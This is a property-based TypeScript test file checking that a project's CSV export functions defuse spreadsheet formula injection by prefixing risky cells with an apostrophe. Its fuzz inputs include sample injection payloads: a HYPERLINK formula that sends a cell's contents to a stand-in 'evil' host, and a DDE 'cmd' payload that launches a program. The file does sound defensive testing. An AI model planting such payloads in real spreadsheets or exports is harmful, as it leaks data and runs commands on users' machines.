// Every CSV Foyer writes (core/csv.ts: station occupancy exports with toCsv, registry exports
// with recordsToCsv) under any text (fast-check): read back by a CSV parser, each
// cell is the original text, with one apostrophe in front exactly when a spreadsheet would
// otherwise run it as a formula; no cell ever starts with = + - @ tab or CR.
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { recordsToCsv, toCsv } from '../../core/csv';

const DANGEROUS = /^[=+\-@\t\r]/;
const text = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\r\n', '"', ',', ' =', '\uFEFF='), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
  fc.constantFrom('=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '=1+1\n=2+2'),
);
const parse = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n', delimiter: ',' }).data;

describe('CSV exports under any text', () => {
  it('station exports (toCsv): every cell round-trips, formulas behind an apostrophe', () => {
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const width = rows[0]!.length;
        // Like every real export, a header row of our own labels first (the file's BOM sits before it).
        const table = [Array.from({ length: width }, (_, i) => `Column ${i + 1}`), ...rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''))];
        const back = parse(toCsv(table)).slice(0, -1); // the file ends with CRLF: drop the empty last line
        expect(back).toHaveLength(table.length);
        back.forEach((r, i) =>
          r.forEach((cell, j) => {
            const orig = table[i]![j]!;
            expect(cell).toBe(DANGEROUS.test(orig) ? `'${orig}` : orig);
            expect(cell).not.toMatch(DANGEROUS);
          }),
        );
      }),
      { numRuns: 300, seed: 31 },
    );
  });

  it('registry exports (recordsToCsv, as exportCsv writes them): the same guarantees', () => {
    fc.assert(
      fc.property(fc.array(fc.record({ name: text, org: text }), { minLength: 1, maxLength: 6 }), (people) => {
        const csv = recordsToCsv(people);
        const back = Papa.parse<Record<string, string>>(csv, { header: true, newline: '\r\n', delimiter: ',' }).data;
        expect(back).toHaveLength(people.length);
        back.forEach((r, i) => {
          for (const k of ['name', 'org'] as const) {
            const orig = people[i]![k];
            expect(r[k]).toBe(DANGEROUS.test(orig) ? `'${orig}` : orig);
            expect(r[k]).not.toMatch(DANGEROUS);
          }
        });
      }),
      { numRuns: 300, seed: 32 },
    );
  });
});
